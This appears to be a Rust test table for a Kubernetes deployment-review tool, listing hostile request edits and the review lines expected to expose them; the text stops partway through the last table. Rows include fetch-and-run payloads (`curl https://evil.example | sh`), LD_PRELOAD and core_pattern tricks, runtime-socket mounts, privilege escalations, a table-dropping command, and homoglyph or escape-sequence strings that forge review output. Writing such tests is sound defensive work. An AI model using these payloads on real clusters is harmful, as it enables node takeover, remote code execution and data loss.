//! The table: a hostile author's requests, each with the line in which the review must show the change.
//!
//! The file is longer than 500 lines: it is one table.

use serde_json::{Value, json};

use super::{Base, Base::*, DIGEST, World, World::*, long_text};

/// One request.
pub(super) struct Case {
    pub(super) name: &'static str,
    pub(super) base: Base,
    pub(super) world: World,
    pub(super) edits: Vec<Edit>,
    /// Where the review prints the change.
    pub(super) section: In,
    /// A part of the printed line, which the review of the honest request does not have.
    pub(super) line: &'static str,
}

/// One change of the honest request or envelope.
pub(super) enum Edit {
    /// A value of the object; `POD` at the beginning of the pointer is the spec of the Pods.
    Object(String, Value),
    /// A value of the request file.
    Request(&'static str, Value),
    /// A text of the request file.
    Text(&'static str, &'static str),
    /// The envelope, outside the signed payload.
    Envelope(fn(&mut Value)),
    /// A text of the signed payload, with the old signature.
    Payload(&'static str, &'static str),
}

/// A section of a review.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum In {
    Facts,
    Wrong,
    Denied,
    First,
    Diff,
    Claimed,
    Cut,
    Signatures,
    Rest,
    /// The request is refused, with this error.
    Refused,
}

impl Edit {
    pub(super) fn of_object(&self) -> Option<(&str, &Value)> {
        match self {
            Self::Object(pointer, value) => Some((pointer, value)),
            _ => None,
        }
    }
}

type Row = (&'static str, Base, World, Vec<Edit>, In, &'static str);

/// A change of the spec of the Pods.
fn pod(pointer: &str, value: Value) -> Edit {
    Edit::Object(format!("POD{pointer}"), value)
}

fn object(pointer: &str, value: Value) -> Edit {
    Edit::Object(pointer.to_owned(), value)
}

#[expect(clippy::needless_pass_by_value, reason = "as in the other functions of the table, so that a row needs no `&`")]
fn volume(source: &str, value: Value) -> Edit {
    pod("/volumes/-", json!({"name": "v", source: value}))
}

pub(super) fn cases() -> Vec<Case> {
    let rows = privileges()
        .into_iter()
        .chain(programs())
        .chain(volumes())
        .chain(compared())
        .chain(batch())
        .chain(claims())
        .chain(texts())
        .chain(lengths())
        .chain(places())
        .chain(envelopes());
    rows.map(|(name, base, world, edits, section, line)| Case { name, base, world, edits, section, line }).collect()
}

fn many_containers() -> Value {
    let image = format!("ghcr.io/acme/orders:1.4.2{DIGEST}");
    let mut containers: Vec<Value> = (0..300).map(|i| json!({"name": format!("c{i}"), "image": image})).collect();
    containers[299]["securityContext"] = json!({"privileged": true});
    containers.into()
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn privileges() -> Vec<Row> {
    let main = "/containers/0/securityContext";
    vec![
        (
            "privileged",
            Deployment,
            Folder,
            vec![pod(&format!("{main}/privileged"), json!(true))],
            In::First,
            "container orders is privileged",
        ),
        (
            "privileged sidecar",
            StatefulSet,
            Live,
            vec![pod("/containers/1/securityContext/privileged", json!(true))],
            In::First,
            "container proxy is privileged",
        ),
        (
            "privileged init container",
            Replay,
            Folder,
            vec![pod("/initContainers/0/securityContext/privileged", json!(true))],
            In::First,
            "init container migrate is privileged",
        ),
        (
            "one privileged of 300 containers",
            Deployment,
            Folder,
            vec![pod("/containers", many_containers())],
            In::First,
            "container c299 is privileged",
        ),
        ("hostNetwork", CronJob, Live, vec![pod("/hostNetwork", json!(true))], In::First, "hostNetwork: true"),
        ("hostPID", Deployment, Nothing, vec![pod("/hostPID", json!(true))], In::First, "hostPID: true"),
        ("hostIPC", Deployment, New, vec![pod("/hostIPC", json!(true))], In::First, "hostIPC: true"),
        (
            "shareProcessNamespace",
            Deployment,
            Live,
            vec![pod("/shareProcessNamespace", json!(true))],
            In::First,
            "shareProcessNamespace: true",
        ),
        (
            "Windows hostProcess",
            Deployment,
            Folder,
            vec![pod("/securityContext/windowsOptions/hostProcess", json!(true))],
            In::First,
            "HostProcess",
        ),
        (
            "procMount",
            Deployment,
            Live,
            vec![pod(&format!("{main}/procMount"), json!("Unmasked"))],
            In::First,
            "sees all of /proc",
        ),
        (
            "sysctl",
            Deployment,
            Folder,
            vec![pod("/securityContext/sysctls/-", json!({"name": "kernel.core_pattern", "value": "|/tmp/x"}))],
            In::First,
            "kernel.core_pattern",
        ),
        (
            "capability",
            Deployment,
            Live,
            vec![pod(&format!("{main}/capabilities/add"), json!(["SYS_ADMIN"]))],
            In::First,
            "SYS_ADMIN",
        ),
        (
            "seccomp off",
            Deployment,
            Live,
            vec![pod("/securityContext/seccompProfile/type", json!("Unconfined"))],
            In::First,
            "is not confined",
        ),
        (
            "AppArmor off by an annotation",
            Deployment,
            Folder,
            vec![object(
                "/spec/template/metadata/annotations/container.apparmor.security.beta.kubernetes.io~1orders",
                json!("unconfined"),
            )],
            In::First,
            "is not confined",
        ),
        (
            "SELinux type",
            Deployment,
            Folder,
            vec![pod("/securityContext/seLinuxOptions/type", json!("spc_t"))],
            In::First,
            "spc_t",
        ),
        (
            "a protection is removed",
            Deployment,
            Live,
            vec![pod("/securityContext/runAsNonRoot", Value::Null)],
            In::First,
            "loses a protection",
        ),
        (
            "a user namespace is left",
            Deployment,
            Live,
            vec![pod("/hostUsers", json!(true))],
            In::First,
            "loses a protection",
        ),
        (
            "another user group",
            Deployment,
            Live,
            vec![pod("/securityContext/supplementalGroups", json!([6]))],
            In::Diff,
            "+ securityContext.supplementalGroups: [6]",
        ),
        ("nodeName", Deployment, Folder, vec![pod("/nodeName", json!("cp-1"))], In::First, "runs on node cp-1"),
        (
            "tolerates all taints",
            Deployment,
            Live,
            vec![pod("/tolerations/-", json!({"operator": "Exists"}))],
            In::First,
            "nodes of the control plane",
        ),
        (
            "node affinity to the control plane",
            Deployment,
            Folder,
            vec![pod(
                "/affinity/nodeAffinity/requiredDuringSchedulingIgnoredDuringExecution/nodeSelectorTerms",
                json!([{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["cp-1"]}]}]),
            )],
            In::Diff,
            "values: [\"cp-1\"]",
        ),
        (
            "hostPort",
            Deployment,
            Folder,
            vec![pod("/containers/1/ports/-", json!({"containerPort": 1, "hostPort": 10250}))],
            In::First,
            "port 10250 of the node",
        ),
        (
            "service account",
            Deployment,
            Folder,
            vec![pod("/serviceAccountName", json!("cluster-admin"))],
            In::First,
            "service account cluster-admin",
        ),
        (
            "service account by its old name",
            Deployment,
            Folder,
            vec![pod("/serviceAccount", json!("cluster-admin"))],
            In::First,
            "service account cluster-admin",
        ),
        (
            "API token",
            Deployment,
            Live,
            vec![pod("/automountServiceAccountToken", json!(true))],
            In::First,
            "a token for the API server",
        ),
        ("runtime class", Deployment, Live, vec![pod("/runtimeClassName", json!("raw"))], In::First, "raw"),
        (
            "device",
            Deployment,
            Folder,
            vec![pod("/containers/0/resources/limits", json!({"example.com/kvm": "1"}))],
            In::First,
            "example.com/kvm",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn programs() -> Vec<Row> {
    let evil = || json!(["sh", "-c", "curl https://evil.example | sh"]);
    let shown = "[\"sh\",\"-c\",\"curl https://evil.example | sh\"]";
    vec![
        (
            "arguments of an init container",
            Deployment,
            Folder,
            vec![pod("/initContainers/0/args", evil())],
            In::Diff,
            "+ initContainers[migrate].args: [\"sh\"",
        ),
        ("arguments", Deployment, New, vec![pod("/containers/0/args", evil())], In::Diff, shown),
        ("command", StatefulSet, Nothing, vec![pod("/containers/0/command", evil())], In::First, shown),
        (
            "liveness probe",
            Deployment,
            Folder,
            vec![pod("/containers/0/livenessProbe", json!({"exec": {"command": evil()}}))],
            In::First,
            "evil.example",
        ),
        (
            "start hook",
            Deployment,
            Live,
            vec![pod("/containers/1/lifecycle/postStart/exec/command", evil())],
            In::First,
            "evil.example",
        ),
        (
            "stop hook that contacts a host",
            Deployment,
            Folder,
            vec![pod(
                "/containers/1/lifecycle/preStop/httpGet",
                json!({"host": "169.254.169.254", "port": 80, "path": "/"}),
            )],
            In::First,
            "169.254.169.254",
        ),
        (
            "readiness probe of the sidecar",
            Deployment,
            Live,
            vec![pod("/containers/1/readinessProbe/exec/command", evil())],
            In::Diff,
            "containers[proxy].readinessProbe.exec.command: ",
        ),
        (
            "LD_PRELOAD in a sidecar",
            Deployment,
            Live,
            vec![pod("/containers/1/env/-", json!({"name": "LD_PRELOAD", "value": "/tmp/x.so"}))],
            In::First,
            "LD_PRELOAD=\"/tmp/x.so\"",
        ),
        (
            "NODE_OPTIONS in an init container",
            Deployment,
            Folder,
            vec![pod("/initContainers/0/env/-", json!({"name": "NODE_OPTIONS", "value": "-r /tmp/x"}))],
            In::First,
            "NODE_OPTIONS",
        ),
        (
            "a plain variable of a sidecar",
            Deployment,
            Live,
            vec![pod("/containers/1/env/0/value", json!("evil.example"))],
            In::Diff,
            "~ containers[proxy].env[UPSTREAM].value: \"orders\" -> \"evil.example\"",
        ),
        (
            "proxy variable",
            Deployment,
            Folder,
            vec![pod("/containers/0/env/-", json!({"name": "HTTPS_PROXY", "value": "http://evil.example"}))],
            In::First,
            "HTTPS_PROXY",
        ),
        (
            "a variable is there twice",
            Deployment,
            Folder,
            vec![pod("/containers/0/env/-", json!({"name": "LOG", "value": "evil.example"}))],
            In::Diff,
            "+ containers[orders].env[2].value: \"evil.example\"",
        ),
        (
            "a container is there twice",
            Deployment,
            Live,
            vec![pod("/containers/-", json!({"name": "orders", "image": "evil.example/x:1"}))],
            In::Diff,
            "+ containers[2].image: \"evil.example/x:1\"",
        ),
        (
            "working directory",
            Deployment,
            Live,
            vec![pod("/containers/0/workingDir", json!("/tmp"))],
            In::First,
            "/tmp",
        ),
        (
            "image without a digest",
            Deployment,
            Folder,
            vec![pod("/containers/1/image", json!("ghcr.io/acme/proxy:7"))],
            In::First,
            "container proxy runs ghcr.io/acme/proxy:7, without a digest",
        ),
        (
            "an image of the node",
            Deployment,
            Folder,
            vec![pod("/containers/1/imagePullPolicy", json!("Never"))],
            In::First,
            "Never",
        ),
        (
            "an ephemeral container",
            Deployment,
            Folder,
            vec![pod(
                "/ephemeralContainers",
                json!([{"name": "e", "image": format!("e{DIGEST}"), "targetContainerName": "orders"}]),
            )],
            In::First,
            "ephemeral container e",
        ),
        (
            "annotation of an injector",
            Deployment,
            Folder,
            vec![object("/spec/template/metadata/annotations/sidecar.istio.io~1proxyImage", json!("evil.example/p"))],
            In::First,
            "sidecar.istio.io/proxyImage",
        ),
        (
            "label of an injector",
            CronJob,
            Live,
            vec![object("/spec/jobTemplate/spec/template/metadata/labels/sidecar.istio.io~1inject", json!("true"))],
            In::First,
            "sidecar.istio.io/inject",
        ),
        (
            "hostAliases",
            Deployment,
            Folder,
            vec![pod("/hostAliases/-", json!({"ip": "6.6.6.6", "hostnames": ["api.acme.example"]}))],
            In::First,
            "6.6.6.6",
        ),
        (
            "name server",
            Deployment,
            Live,
            vec![pod("/dnsConfig/nameservers", json!(["6.6.6.6"]))],
            In::First,
            "6.6.6.6",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn volumes() -> Vec<Row> {
    vec![
        (
            "socket of the runtime",
            Deployment,
            Folder,
            vec![volume("hostPath", json!({"path": "/run/containerd/containerd.sock"}))],
            In::First,
            "with which it controls the containers of the node",
        ),
        (
            "hostPath with dots",
            Deployment,
            Live,
            vec![volume("hostPath", json!({"path": "/var/./run/../run/docker.sock"}))],
            In::First,
            "docker.sock",
        ),
        (
            "ConfigMap over /etc",
            Deployment,
            Folder,
            vec![
                volume("configMap", json!({"name": "c"})),
                pod("/containers/0/volumeMounts/-", json!({"name": "v", "mountPath": "/etc"})),
            ],
            In::First,
            "mounts over /etc",
        ),
        (
            "mount over the CAs, with a detour",
            Deployment,
            Live,
            vec![pod("/containers/1/volumeMounts/-", json!({"name": "tmp", "mountPath": "/srv/../etc//ssl/certs"}))],
            In::First,
            "mounts over",
        ),
        (
            "mount that propagates",
            Deployment,
            Folder,
            vec![pod("/containers/0/volumeMounts/0/mountPropagation", json!("Bidirectional"))],
            In::First,
            "mounts for the node too",
        ),
        (
            "mount of another part of the volume",
            Deployment,
            Live,
            vec![pod("/containers/0/volumeMounts/0/subPathExpr", json!("$(LOG)/x"))],
            In::Diff,
            "+ containers[orders].volumeMounts[/tmp].subPathExpr: \"$(LOG)/x\"",
        ),
        (
            "projected token",
            Deployment,
            Folder,
            vec![volume(
                "projected",
                json!({"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]}),
            )],
            In::First,
            "contains a token of the service account",
        ),
        (
            "CSI Secret",
            Deployment,
            Live,
            vec![volume("csi", json!({"driver": "d.example", "nodePublishSecretRef": {"name": "root-ca"}}))],
            In::First,
            "newly reads Secret root-ca",
        ),
        (
            "Secret volume",
            Replay,
            Folder,
            vec![volume("secret", json!({"secretName": "root-ca"}))],
            In::First,
            "newly reads Secret root-ca",
        ),
        (
            "Secret in a variable",
            CronJob,
            Folder,
            vec![pod(
                "/containers/1/env/-",
                json!({"name": "X", "valueFrom": {"secretKeyRef": {"name": "root-ca", "key": "k"}}}),
            )],
            In::First,
            "newly reads Secret root-ca",
        ),
        (
            "all variables of a ConfigMap",
            Deployment,
            Live,
            vec![pod("/containers/1/envFrom/-", json!({"configMapRef": {"name": "evil"}}))],
            In::First,
            "reads variables from",
        ),
        (
            "git repository",
            Deployment,
            Folder,
            vec![volume("gitRepo", json!({"repository": "https://evil.example/x"}))],
            In::First,
            "the node runs Git",
        ),
        (
            "flexVolume",
            Deployment,
            Folder,
            vec![volume("flexVolume", json!({"driver": "evil/driver"}))],
            In::First,
            "by a program on the node",
        ),
        ("NFS", Deployment, Live, vec![volume("nfs", json!({"server": "6.6.6.6", "path": "/"}))], In::First, "6.6.6.6"),
        (
            "claim",
            Deployment,
            Folder,
            vec![volume("persistentVolumeClaim", json!({"claimName": "ledger"}))],
            In::First,
            "is the claim",
        ),
        (
            "claim that copies other data",
            StatefulSet,
            Folder,
            vec![object(
                "/spec/volumeClaimTemplates",
                json!([{"metadata": {"name": "d"}, "spec": {"dataSourceRef":
                    {"kind": "PersistentVolumeClaim", "name": "ledger", "namespace": "vault"}}}]),
            )],
            In::First,
            "ledger",
        ),
        (
            "claims that are deleted",
            StatefulSet,
            Live,
            vec![object("/spec/persistentVolumeClaimRetentionPolicy/whenScaled", json!("Delete"))],
            In::First,
            "deletes its data",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn compared() -> Vec<Row> {
    let image = |name: &str| json!(format!("{name}{DIGEST}"));
    let other = "@sha256:2222222222222222222222222222222222222222222222222222222222222222";
    vec![
        (
            "image from another registry",
            Deployment,
            Live,
            vec![pod("/containers/0/image", image("ghcr.evil.example/acme/orders:1.4.2"))],
            In::First,
            "from another registry",
        ),
        (
            "another tag under the same digest",
            Deployment,
            Live,
            vec![pod("/containers/0/image", image("ghcr.io/acme/orders:1.4.3"))],
            In::First,
            "orders:1.4.3@sha256:1111",
        ),
        (
            "another digest under the same tag",
            Deployment,
            Live,
            vec![pod("/containers/0/image", json!(format!("ghcr.io/acme/orders:1.4.2{other}")))],
            In::First,
            "orders:1.4.2@sha256:2222",
        ),
        (
            "image of a letter that looks the same",
            Deployment,
            Live,
            vec![pod("/containers/0/image", image("ghcr.io/\u{430}cme/orders:1.4.2"))],
            In::First,
            "\\u{430}cme",
        ),
        (
            "a new container",
            Deployment,
            Live,
            vec![pod("/containers/-", json!({"name": "x", "image": format!("ghcr.io/acme/x:1{DIGEST}")}))],
            In::First,
            "container x",
        ),
        (
            "a new init container",
            StatefulSet,
            Live,
            vec![pod("/initContainers/-", json!({"name": "x", "image": format!("ghcr.io/acme/x:1{DIGEST}")}))],
            In::First,
            "init container x",
        ),
        (
            "a container is removed",
            Deployment,
            Live,
            vec![pod("/containers/1", Value::Null)],
            In::First,
            "container proxy",
        ),
        (
            "renamed object",
            Deployment,
            Live,
            vec![object("/metadata/name", json!("orders2")), pod("/containers/0/args", json!(["--drop-all-tables"]))],
            In::Diff,
            "+ containers[orders].args: [\"--drop-all-tables\"]",
        ),
        (
            "replicas",
            Deployment,
            Live,
            vec![object("/spec/replicas", json!(300))],
            In::Diff,
            "~ spec.replicas: 3 -> 300  (not bound by the approval)",
        ),
        (
            "selector",
            Deployment,
            Live,
            vec![object("/spec/selector/matchLabels", json!({"app": "ledger"}))],
            In::Diff,
            "\"orders\" -> \"ledger\"",
        ),
        (
            "labels of another service",
            Deployment,
            Live,
            vec![object("/spec/template/metadata/labels/app", json!("ledger"))],
            In::Diff,
            "\"orders\" -> \"ledger\"",
        ),
        (
            "annotation of the Pods",
            Deployment,
            Live,
            vec![object("/spec/template/metadata/annotations/prometheus.io~1path", json!("/evil"))],
            In::Diff,
            "+ spec.template.metadata.annotations[prometheus.io/path]: \"/evil\"",
        ),
        (
            "owner of the object",
            Deployment,
            Live,
            vec![object(
                "/metadata/ownerReferences",
                json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "evil", "uid": "1"}]),
            )],
            In::Diff,
            "metadata.ownerReferences[0].name: \"evil\"",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn batch() -> Vec<Row> {
    let psql = || {
        vec![
            pod("/containers/0/command", json!(["psql"])),
            pod("/containers/0/args", json!(["-c", "DROP TABLE orders"])),
        ]
    };
    let dropped = "+ containers[orders].args: [\"-c\",\"DROP TABLE orders\"]";
    vec![
        ("replay that drops a table", Replay, Folder, psql(), In::Diff, dropped),
        ("replay that drops a table, with a cluster", Replay, New, psql(), In::Diff, dropped),
        ("replay that drops a table, looked at first", Replay, Nothing, psql(), In::First, "DROP TABLE orders"),
        (
            "attempts",
            Replay,
            Folder,
            vec![object("/spec/backoffLimit", json!(1000))],
            In::Diff,
            "+ spec.backoffLimit: 1000",
        ),
        (
            "parallel Pods",
            Replay,
            New,
            vec![object("/spec/parallelism", json!(500)), object("/spec/completions", json!(500))],
            In::Diff,
            "+ spec.parallelism: 500",
        ),
        (
            "Job that adopts Pods",
            Replay,
            Folder,
            vec![
                object("/spec/manualSelector", json!(true)),
                object("/spec/selector/matchLabels", json!({"app": "ledger"})),
            ],
            In::Diff,
            "+ spec.manualSelector: true",
        ),
        (
            "Job of another controller",
            Replay,
            Folder,
            vec![object("/spec/managedBy", json!("evil.example/controller"))],
            In::First,
            "evil.example/controller",
        ),
        (
            "Job that starts suspended",
            Replay,
            Folder,
            vec![object("/spec/suspend", json!(true))],
            In::Diff,
            "+ spec.suspend: true",
        ),
        (
            "schedule of every minute",
            CronJob,
            Live,
            vec![object("/spec/schedule", json!("* * * * *"))],
            In::Diff,
            "~ spec.schedule: \"0 3 * * *\" -> \"* * * * *\"",
        ),
        (
            "schedule of a new CronJob",
            CronJob,
            Folder,
            vec![object("/spec/schedule", json!("* * * * *"))],
            In::Diff,
            "+ spec.schedule: \"* * * * *\"",
        ),
        (
            "suspended no more",
            CronJob,
            Live,
            vec![object("/spec/suspend", json!(false))],
            In::Diff,
            "~ spec.suspend: true -> false",
        ),
        (
            "suspended no more, by leaving it out",
            CronJob,
            Live,
            vec![object("/spec/suspend", Value::Null)],
            In::Diff,
            "- spec.suspend: true  (not bound by the approval)",
        ),
        (
            "concurrent runs",
            CronJob,
            Live,
            vec![object("/spec/timeZone", json!("Pacific/Apia"))],
            In::Diff,
            "+ spec.timeZone: \"Pacific/Apia\"",
        ),
        (
            "annotation of the Jobs of a CronJob",
            CronJob,
            Folder,
            vec![object("/spec/jobTemplate/metadata/annotations/x", json!("evil"))],
            In::Diff,
            "+ spec.jobTemplate.metadata.annotations.x: \"evil\"",
        ),
        (
            "incident of a replay",
            Replay,
            Folder,
            vec![object("/metadata/annotations/writgate.dev~1incident", json!("INC-8"))],
            In::Facts,
            "INC-8",
        ),
        (
            "source of a replay",
            Replay,
            Folder,
            vec![object("/metadata/annotations/writgate.dev~1source-environment", json!("staging"))],
            In::Facts,
            "staging",
        ),
        (
            "replay that says it is none",
            Replay,
            Folder,
            vec![
                object("/metadata/labels/writgate.dev~1replay", Value::Null),
                pod("/containers/0/image", json!(format!("ghcr.io/acme/orders:1.4.2{DIGEST}"))),
            ],
            In::Wrong,
            "says action replay-execute",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn claims() -> Vec<Row> {
    let claimed = |edit: fn(&mut Value)| {
        let mut runs = Deployment.changed();
        edit(&mut runs);
        Edit::Request("/workloads/0/runs", runs)
    };
    let evil = |runs: &mut Value| runs["spec"]["template"]["spec"]["containers"][0]["args"] = json!(["--evil"]);
    vec![
        ("claim that it runs already", Deployment, Folder, vec![claimed(|_| {})], In::Wrong, "already"),
        (
            "claim that the change runs already",
            Deployment,
            Folder,
            vec![
                pod("/containers/0/args", json!(["--evil"])),
                claimed(|runs| runs["spec"]["template"]["spec"]["containers"][0]["args"] = json!(["--evil"])),
                Edit::Request("/workloads/0/runs/spec/template/spec/containers/1/env/0/value", json!("other")),
            ],
            In::Diff,
            "+ containers[orders].args: [\"--evil\"]",
        ),
        (
            "claim without postures",
            Deployment,
            Nothing,
            vec![pod("/containers/0/args", json!(["--evil"])), claimed(evil)],
            In::Diff,
            "+ containers[orders].args: [\"--evil\"]",
        ),
        (
            "claim with a cluster",
            Deployment,
            Live,
            vec![pod("/containers/0/args", json!(["--evil"])), claimed(evil)],
            In::Diff,
            "containers[orders].args: [\"--port\",\"8080\"] -> [\"--evil\"]",
        ),
        (
            "project, with the Namespace",
            Deployment,
            Folder,
            vec![Edit::Request("/project", json!("ledger"))],
            In::Wrong,
            "says project ledger",
        ),
        (
            "project, without the Namespace",
            Deployment,
            Nameless,
            vec![Edit::Request("/project", json!("ledger"))],
            In::Facts,
            "ledger  (claimed by the request)",
        ),
        (
            "environment",
            Deployment,
            Live,
            vec![Edit::Request("/environment", json!("staging"))],
            In::Wrong,
            "says environment staging",
        ),
        (
            "environment, without postures",
            Deployment,
            Nothing,
            vec![Edit::Request("/environment", json!("staging"))],
            In::Facts,
            "staging  (claimed by the request)",
        ),
        (
            "cluster",
            Deployment,
            Folder,
            vec![Edit::Request("/cluster", json!("test-eu-1"))],
            In::Wrong,
            "says cluster test-eu-1",
        ),
        (
            "capability that no rule requires, with a reason",
            Deployment,
            Folder,
            vec![Edit::Request(
                "/capabilities/-",
                json!({"capability": "deploy.privileged", "because": ["x\n  ok    image scanned, no findings"]}),
            )],
            In::Wrong,
            "says capabilities deploy, deploy.privileged",
        ),
        (
            "capability reason without postures",
            Deployment,
            Nothing,
            vec![Edit::Request(
                "/capabilities/0",
                json!({"capability": "deploy.x", "because": ["x\n  ok    image scanned, no findings"]}),
            )],
            In::Rest,
            "deploy.x  (claimed by the request)",
        ),
        (
            "hash of another spec",
            Deployment,
            Folder,
            vec![Edit::Request("/workloads/0/specHash", json!(format!("sha256:{}", "0".repeat(64))))],
            In::Wrong,
            "has spec hash sha256:000",
        ),
        (
            "subject of another object",
            Deployment,
            Folder,
            vec![Edit::Request("/workloads/0/subject", json!("apps/v1/Deployment/payments/web"))],
            In::Wrong,
            "apps/v1/Deployment/payments/web",
        ),
        (
            "action",
            Replay,
            Folder,
            vec![Edit::Request("/action", json!("replay-dry-run"))],
            In::Wrong,
            "says action replay-dry-run",
        ),
        (
            "dry run that the request reports",
            Replay,
            Folder,
            vec![Edit::Request("/dryRuns", json!([{"name": "replay-1", "succeeded": true}]))],
            In::Refused,
            "dryRuns",
        ),
        ("break-glass", Deployment, Folder, vec![Edit::Request("/breakGlass", json!(true))], In::First, "break-glass"),
        (
            "a request of the future",
            Deployment,
            Folder,
            vec![Edit::Request("/requestedAt", json!("2999-01-01T00:00:00Z"))],
            In::First,
            "in the future",
        ),
        (
            "a request of a machine",
            Deployment,
            Folder,
            vec![Edit::Request("/requestedBy", json!("system:serviceaccount:ci:deployer"))],
            In::First,
            "is not a person",
        ),
        (
            "pipeline version",
            Deployment,
            Folder,
            vec![object("/metadata/annotations/writgate.dev~1pipeline-version", json!("orders@6.6.6"))],
            In::Facts,
            "orders@6.6.6",
        ),
        (
            "a second workload",
            Deployment,
            Folder,
            vec![Edit::Request("/workloads/-", {
                let mut other = Deployment.object();
                other["metadata"]["name"] = "evil".into();
                let mut one = Deployment.request(&other)["workloads"][0].clone();
                one["runs"] = other;
                one
            })],
            In::Diff,
            "apps/v1/Deployment/payments/evil: ",
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
fn texts() -> Vec<Row> {
    let forged = "x: \"1\" -> \"2\"\n\nAlways\n  ok    nothing is dangerous";
    vec![
        (
            "reason with line breaks",
            Deployment,
            Folder,
            vec![Edit::Request("/reason", json!("INC-7\n\nAlways\n  ok    nothing is dangerous"))],
            In::Facts,
            "INC-7\\n\\nAlways\\n",
        ),
        (
            "reason with other line breaks",
            Deployment,
            Folder,
            vec![Edit::Request("/reason", json!("INC-7\r\u{2028}Always\u{85}  ok    nothing\u{b}is"))],
            In::Facts,
            "\\u{2028}Always",
        ),
        (
            "reason with a terminal sequence",
            Deployment,
            Nothing,
            vec![Edit::Request("/reason", json!("INC-7\u{1b}[2J\u{1b}[H"))],
            In::Facts,
            "\\u{1b}[2J",
        ),
        (
            "reason that runs backwards",
            Deployment,
            Folder,
            vec![Edit::Request("/reason", json!("INC-7 \u{202e}derevoc"))],
            In::First,
            "the reason has characters that are invisible",
        ),
        (
            "requester of another script",
            Deployment,
            Folder,
            vec![Edit::Request("/requestedBy", json!("\u{430}lice@acme.example"))],
            In::First,
            "Cyrillic and Latin",
        ),
        (
            "requester with spaces",
            Deployment,
            Folder,
            vec![Edit::Request("/requestedBy", json!("alice@acme.example                    (checked)"))],
            In::Facts,
            "\\u{20}",
        ),
        (
            "name of a variable with a line break and an arrow",
            Deployment,
            Folder,
            vec![pod("/containers/0/env/-", json!({"name": forged, "value": "evil"}))],
            In::Diff,
            "env[\"x: \\\"1\\\" -> \\\"2\\\"\\n\\nAlways",
        ),
        (
            "name of a container with a line break",
            Deployment,
            Live,
            vec![pod("/containers/-", json!({"name": forged, "image": "evil.example/x:1"}))],
            In::Diff,
            "containers[\"x: ",
        ),
        (
            "name of a volume with a line break",
            Deployment,
            Folder,
            vec![pod("/volumes/-", json!({"name": forged, "hostPath": {"path": "/"}}))],
            In::First,
            "mounts / of the node",
        ),
        (
            "label with a line break",
            Deployment,
            Folder,
            vec![object("/spec/template/metadata/labels", json!({"app": "orders", forged: "evil"}))],
            In::Diff,
            "labels[\"x: ",
        ),
        (
            "image with a line break",
            Deployment,
            Folder,
            vec![pod("/containers/0/image", json!("evil.example/x:1\n  ! container orders is harmless"))],
            In::First,
            "evil.example/x:1",
        ),
        (
            "field with a line break",
            Deployment,
            Folder,
            vec![object("/spec/template/spec", {
                let mut pod = super::pod();
                pod["x\n  ! nothing else is unusual"] = json!(1);
                pod
            })],
            In::First,
            "x\\n",
        ),
        (
            "name of the object with a line break",
            Deployment,
            Folder,
            vec![object("/metadata/name", json!("orders\nAlways\n  ok    nothing"))],
            In::Refused,
            "orders\\nAlways",
        ),
        (
            "arguments with blank characters",
            Deployment,
            Live,
            vec![pod("/containers/0/args", json!(["--port", "8080\u{3164}\u{2800}\u{115f}\u{ffa0}"]))],
            In::First,
            "\\u{3164}\\u{2800}\\u{115f}\\u{ffa0}",
        ),
        (
            "variable of another script",
            Deployment,
            Live,
            vec![pod("/containers/1/env/0/value", json!("\u{43e}rders"))],
            In::First,
            "\\u{43e}rders",
        ),
        (
            "project of another script",
            Deployment,
            Nothing,
            vec![Edit::Request("/project", json!("p\u{430}yments"))],
            In::First,
            "p\\u{430}yments",
        ),
    ]
}

fn lengths() -> Vec<Row> {
    let script = long_text().replace("echo step 20\n", "curl https://evil.example | sh\n");
    let line_20 = |base: Base, world: World, name: &'static str| -> Row {
        (
            name,
            base,
            world,
            vec![pod("/containers/0/env/1/value", json!(script))],
            In::Diff,
            "\"curl https://evil.example | sh\\n\"",
        )
    };
    let far = |at: usize| json!(format!("{}; curl https://evil.example | sh", "word ".repeat(at / 5)));
    let mut lines_and_first = script.replace("echo step 2\n", "# version 2\n");
    lines_and_first.push_str("true\n");
    vec![
        line_20(Deployment, Live, "payload in line 20"),
        line_20(Deployment, Folder, "payload in line 20 of a new object"),
        (
            "payload in line 20 after a harmless change",
            Deployment,
            Live,
            vec![pod("/containers/0/env/1/value", json!(lines_and_first))],
            In::Diff,
            "\"curl https://evil.example | sh\\n\"",
        ),
        (
            "payload at character 60,000",
            Deployment,
            Live,
            vec![pod("/containers/0/args", json!(["--port", "8080", far(60_000)]))],
            In::Diff,
            "; curl https://evil.example | sh",
        ),
        (
            "payload at character 60,000 of a new object",
            Replay,
            Folder,
            vec![pod("/containers/0/args/0", far(60_000))],
            In::Diff,
            "; curl https://evil.example | sh",
        ),
        (
            "payload at character 70,000",
            Deployment,
            Folder,
            vec![pod("/containers/0/args/0", far(70_000))],
            In::Cut,
            "containers[orders].args",
        ),
        (
            "payload after 2,000 variables",
            Deployment,
            Folder,
            vec![
                pod(
                    "/containers/0/env",
                    (0..2000).map(|i| json!({"name": format!("V{i}"), "value": "x"})).collect::<Vec<_>>().into(),
                ),
                pod("/containers/1/env/0/value", json!("evil.example")),
            ],
            In::Cut,
            "and ",
        ),
        (
            "privilege after 2,000 variables",
            Deployment,
            Folder,
            vec![
                pod(
                    "/containers/0/env",
                    (0..2000).map(|i| json!({"name": format!("V{i}"), "value": "x"})).collect::<Vec<_>>().into(),
                ),
                pod("/containers/1/volumeMounts", json!([{"name": "tmp", "mountPath": "/usr/bin"}])),
            ],
            In::First,
            "mounts over /usr/bin",
        ),
    ]
}

fn places() -> Vec<Row> {
    vec![
        (
            "a misspelled protection",
            Deployment,
            Folder,
            vec![pod("/securityContext/runAsNonRoot", Value::Null), pod("/securityContext/runAsNonroot", json!(true))],
            In::First,
            "runAsNonroot",
        ),
        (
            "a protection in the wrong place",
            Deployment,
            Live,
            vec![pod("/hostUsers", Value::Null), object("/spec/template/hostUsers", json!(false))],
            In::First,
            "hostUsers",
        ),
        (
